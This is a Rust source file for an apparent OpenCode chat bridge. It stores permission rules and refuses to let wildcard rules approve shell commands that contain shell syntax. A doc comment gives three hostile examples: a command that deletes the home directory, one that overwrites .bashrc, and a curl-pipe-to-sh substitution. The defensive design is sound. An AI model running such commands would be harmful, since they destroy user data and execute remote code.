//! The owner's stored rules: what "always" stores, and whether stored rules
//! allow a request without asking.

use super::*;

/// What "always" allows for good: OpenCode's suggested patterns for a
/// `member`, the exact request for a `guest` (a group's other people must not
/// widen it): for a shell command the whole command as it runs.
pub(super) fn always_rules(reg: &RegisteredChat, ask: &PermissionAsk) -> Vec<String> {
    if reg.profile == Profile::Member && !ask.always.is_empty() {
        ask.always.clone()
    } else if ask.permission == "bash" {
        vec![format!("={}", ask.detail)]
    } else {
        ask.patterns.iter().map(|p| format!("={p}")).collect()
    }
}

/// Whether the owner's stored `rules` allow `ask` without asking. A shell
/// command is allowed by an exact rule naming the whole command, or by
/// wildcards only when it holds no shell syntax at all (a wildcard such as
/// `git status *` must not let through `git status; rm -rf ~`,
/// `git status > ~/.bashrc` or `git status $(curl x | sh)`). Other
/// requests: every pattern matched by a rule.
pub(super) fn allowed_by(rules: &[String], ask: &PermissionAsk) -> bool {
    if ask.permission == "bash" {
        if rules
            .iter()
            .any(|r| r.strip_prefix('=') == Some(ask.detail.as_str()))
        {
            return true;
        }
        if has_shell_syntax(&ask.detail) || ask.patterns.iter().any(|p| has_shell_syntax(p)) {
            return false;
        }
    }
    !ask.patterns.is_empty()
        && ask
            .patterns
            .iter()
            .all(|p| rules.iter().any(|r| rule_matches(r, p)))
}

/// Whether `command` holds anything a shell reads as more than words: command
/// separators, pipes, redirections, substitutions, expansions, grouping,
/// escapes, quotes, line breaks or other control characters.
pub fn has_shell_syntax(command: &str) -> bool {
    command.chars().any(|c| {
        matches!(
            c,
            ';' | '&' | '|' | '<' | '>' | '$' | '`' | '(' | ')' | '{' | '}' | '\\' | '\'' | '"'
        ) || c.is_control()
    })
}

/// Whether a stored rule covers `pattern`: `=text` only that exact text,
/// anything else an OpenCode wildcard (`*` any run of characters, `?` one).
pub(super) fn rule_matches(rule: &str, pattern: &str) -> bool {
    match rule.strip_prefix('=') {
        Some(exact) => exact == pattern,
        None => WildMatch::new(rule).matches(pattern),
    }
}
